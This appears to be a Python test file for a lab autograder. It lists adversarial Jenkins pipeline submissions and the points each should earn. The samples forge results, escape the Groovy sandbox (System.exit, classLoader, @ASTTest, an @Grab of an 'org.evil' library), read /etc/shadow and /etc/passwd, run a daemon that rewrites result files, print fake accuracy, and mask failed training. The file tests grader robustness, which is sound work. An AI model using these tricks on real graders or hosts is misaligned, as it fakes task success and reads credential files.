"""Conveyors that want points for what they do not do: each gets what its work deserves, and no more."""

import pickle

from common.tests.submissions.lab2.parts import COMMANDS, SCRIPTS, declarative, lab2

STUBS = dict.fromkeys((name.removesuffix(".py") for name in SCRIPTS), "raise SystemExit(0)\n")
SUCCESS = '{"status": "SUCCESS", "problem": null, "stages": [], "seconds": 1.0}'
LINE = "Model test accuracy is:"
OLD_MODEL = pickle.dumps({"weights": [0.03, 0.25, -0.26, 0.5]})
DAEMON = """\
cat >daemon.py <<'END'
import os, time
if os.fork() == 0:
    os.setsid()
    while True:
        for path in ('model.pkl', 'train/a.csv', 'report.json'):
            try: open(path, 'w').write('{"points": 100}')
            except OSError: pass
        time.sleep(0.01)
END
mkdir -p train; python3 daemon.py; sleep 0.2"""
CRASHES = "raise RuntimeError('no model today')\n"


def node(*lines: str) -> str:
    return "node {\n    checkout scm\n" + "".join(f"    {line}\n" for line in lines) + "}\n"


def _stubs(conveyor: str, points: int, stands_for: str, **files) -> object:
    return lab2(conveyor, points, stands_for, **(STUBS | files))


def _with_old_model(conveyor: str, points: int, stands_for: str, **files) -> object:
    example = lab2(conveyor, points, stands_for, **files)
    example.files["lab2/model.pkl"] = OLD_MODEL
    return example


RUNS = [f"sh 'cd lab2 && {command}'" for command in COMMANDS]

ATTACKS = {
    # Stubs get 2 for the scripts and 2 for checkout; 3 for a file that Jenkins can read, 1 for another.
    "writes the result itself": _stubs(
        node(f"sh '''echo '{SUCCESS}' | tee result.json >&2; echo '{LINE} 0.99'; kill -9 $PPID'''"),
        5, "the imitation is killed behind a forged result",
    ),
    "ends Groovy": _stubs(node(f"echo '{LINE} 0.99'", "System.exit(0)"), 5, "System.exit"),
    "ends Groovy by another way": _stubs(
        node("def name = 'cla' + 'ss'", "''[name]['class' + 'Loader'].loadClass('java.lang.System')"),
        5, "a class by the name of a property",
    ),
    "fetches a library": _stubs(
        "@Grab('org.evil:agent:1.0')\nimport org.evil.Agent\n" + node("echo 'x'"), 5, "@Grab"
    ),
    "runs code in the compiler": _stubs(
        "@groovy.transform.ASTTest(value={ System.exit(0) }) def x = 1\n" + node("echo 'x'"), 5, "@ASTTest"
    ),
    "reads the host": _stubs(node("echo new File('/etc/shadow').text"), 5, "java.io.File"),
    "makes a file of a list": _stubs(node("File f = ['/etc/passwd']", "echo f.text"), 5, "a coercion"),
    "starts a program": _stubs(node("'touch /tmp/reached-the-grader'.execute()"), 5, "String.execute"),
    "forks daemons": _stubs(  # it finishes, and something for train is there
        node(f"dir('lab2') {{ sh '''{DAEMON}''' }}", f"echo '{LINE} 0.99'"),
        8, "a daemon that rewrites results",
    ),
    "prints a fake metric": lab2(  # 0 of 2 for the quality; it is printed when training fails, too
        node(f"sh 'echo {LINE} 0.999'", *RUNS[:3]), 17, "an echo instead of testing", model_testing="pass\n"
    ),
    "boasts in post": lab2(
        declarative(after=f"    post {{ always {{ sh 'echo {LINE} 0.999' }} }}\n"),
        17, "a better metric behind the honest one, failure or not",
    ),
    "post hides a failure": _with_old_model(  # data, and no more than half of finishing
        declarative(after="    post { failure { script { currentBuild.result = 'SUCCESS' } } }\n"),
        10, "post says SUCCESS", model_preparation=CRASHES,
    ),
    "swallows by catchError": _with_old_model(
        node(*RUNS[:2], f"catchError(buildResult: 'SUCCESS') {{ {RUNS[2]} }}", RUNS[3]),
        10, "training crashes, an old model is committed", model_preparation=CRASHES,
    ),
    "swallows by try": _with_old_model(
        node(*RUNS[:2], f"try {{ {RUNS[2]} }} catch (e) {{ currentBuild.result = 'SUCCESS' }}", RUNS[3]),
        10, "training crashes, and is caught", model_preparation=CRASHES,
    ),
    "skips training": _with_old_model(node(*RUNS[:2], RUNS[3]), 10, "an old model is tested"),
    "loops in Groovy": _stubs(node("while (true) { }"), 7, "a loop that no step can stop"),
}  # fmt: skip
TAKES_ALL_TIME = ("loops in Groovy",)
